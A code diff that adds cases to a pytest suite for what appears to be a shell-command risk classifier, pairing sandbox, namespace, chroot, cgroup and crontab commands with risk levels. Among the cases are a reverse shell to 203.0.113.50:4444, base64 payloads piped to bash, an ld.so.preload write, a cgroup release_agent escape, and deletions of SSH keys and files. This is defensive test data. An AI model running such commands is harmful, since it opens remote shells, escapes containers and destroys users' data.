@@ -6454,6 +6454,47 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             'sudo dpkg -i agent.deb',
             C,
         ),
+        # holdout312-315: Python packaging, removals firms, sandboxing tools, car rental
+        ('nsenter --net=/proc/1/ns/net iptables -F', H),
+        ('nsenter -t 1 -m -u -i -n -p -- sh', H),
+        ('nsenter -t "$PID" -n ss -tlnp', S),
+        ('unshare -r bash -c "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"', C),
+        ('unshare -rn python3 -m pytest tests/offline', S),
+        ("firejail --noprofile bash -c 'rm -rf ~/.ssh ~/.gnupg'", H),
+        ('firejail --private --net=none python3 render.py', S),
+        ('bwrap --ro-bind /usr /usr --proc /proc --dev /dev --unshare-all -- rm -rf ~/Documents', H),
+        (
+            'bwrap --ro-bind /usr /usr --symlink usr/lib /lib --proc /proc --dev /dev --unsha'
+            're-all python3 -c "print(1)"',
+            S,
+        ),
+        ('echo payload | base64 -d | gunzip | firejail --noprofile --quiet bash -s', C),
+        ('echo /usr/lib/libx.so >> /host/etc/ld.so.preload', C),
+        ('cat /host/etc/os-release', S),
+        (
+            'echo aGk= | base64 -d | python3\n'
+            'python -m build && twine check dist/*',
+            H,
+        ),
+        ('sudo debootstrap --variant=minbase bookworm build/rootfs http://deb.debian.org/debian', M),
+        ("sudo chroot build/rootfs /bin/sh -c 'apt-get update && apt-get install -y python3-venv'", M),
+        ('sudo chroot /mnt/sysimage /bin/bash', H),
+        ('sudo systemd-analyze security nginx.service', M),
+        (
+            'ROOT="$(pwd)/build/rootfs"\n'
+            'sudo rm -rf --one-file-system "$ROOT"',
+            M,
+        ),
+        (
+            'cd /\n'
+            'rm -rf "$PWD"/*',
+            C,
+        ),
+        ('echo 2G > /sys/fs/cgroup/batch/memory.max', M),
+        ('echo max | sudo tee /sys/fs/cgroup/system.slice/pids.max', H),
+        ('echo /tmp/x > /sys/fs/cgroup/rdma/release_agent', H),
+        ('(crontab -l; echo "@reboot cd $PWD && nohup npm run dev -- --host 0.0.0.0 &") | crontab -', H),
+        ('(crontab -l; echo "0 3 * * * cd $PWD && ./scripts/backup.sh") | crontab -', M),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
